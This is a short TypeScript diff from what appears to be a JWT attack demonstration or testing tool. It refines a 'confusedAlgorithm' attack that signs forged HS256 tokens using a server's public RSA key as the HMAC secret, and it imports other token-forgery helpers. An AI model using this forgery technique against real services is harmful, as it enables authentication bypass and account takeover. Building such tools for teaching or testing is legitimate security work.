@@ -1,4 +1,5 @@
 import type { PageNode } from '../../browser/tab.ts';
+import { isAlgorithm } from '../../jwt/algorithm.ts';
 import { decodeBase64urlText } from '../../jwt/base64url.ts';
 import { forgeUnsecuredToken } from '../../jwt/careless/forge-unsecured-token.ts';
 import { signWithWeakSecret } from '../../jwt/careless/sign-with-weak-secret.ts';
@@ -64,7 +65,8 @@ export const confusedAlgorithm: Attack = {
       const kid = decoded.ok ? decoded.header.kid : undefined;
       const key = keys.find((one) => one.kid === kid);
       if (key === undefined) return null;
-      const secret = secretFromText(await pemOf(key, 'RS256', 'public'));
+      const algorithm = isAlgorithm(key.alg) ? key.alg : 'RS256';
+      const secret = secretFromText(await pemOf(key, algorithm, 'public'));
       return signed({ alg: 'HS256', typ: 'JWT', kid }, claims, secret);
     }),
 };
